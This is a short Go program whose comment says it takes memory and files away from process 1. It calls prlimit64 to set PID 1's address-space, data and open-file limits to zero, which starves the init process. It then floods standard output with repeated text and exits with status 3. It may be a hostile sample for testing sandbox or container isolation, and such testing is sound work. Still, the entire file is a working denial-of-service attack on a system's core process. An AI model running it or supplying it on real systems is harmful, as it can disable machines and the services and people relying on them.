// Takes memory and files away from process 1, whose user id it has, and then makes it work.
package main

import (
	"fmt"
	"os"
	"strings"
	"syscall"
	"unsafe"
)

func main() {
	const addressSpace, data, files = 9, 2, 7
	for _, limit := range []uintptr{addressSpace, data, files} {
		none := [2]uint64{}
		_, _, err := syscall.Syscall6(syscall.SYS_PRLIMIT64, 1, limit, uintptr(unsafe.Pointer(&none)), 0, 0, 0)
		fmt.Println("limit of process 1:", err)
	}
	own := syscall.Rlimit{}
	fmt.Println("own limit:", syscall.Getrlimit(files, &own))
	for i := 0; i < 200; i++ {
		fmt.Println(strings.Repeat("flood ", 2000))
	}
	os.Exit(3)
}
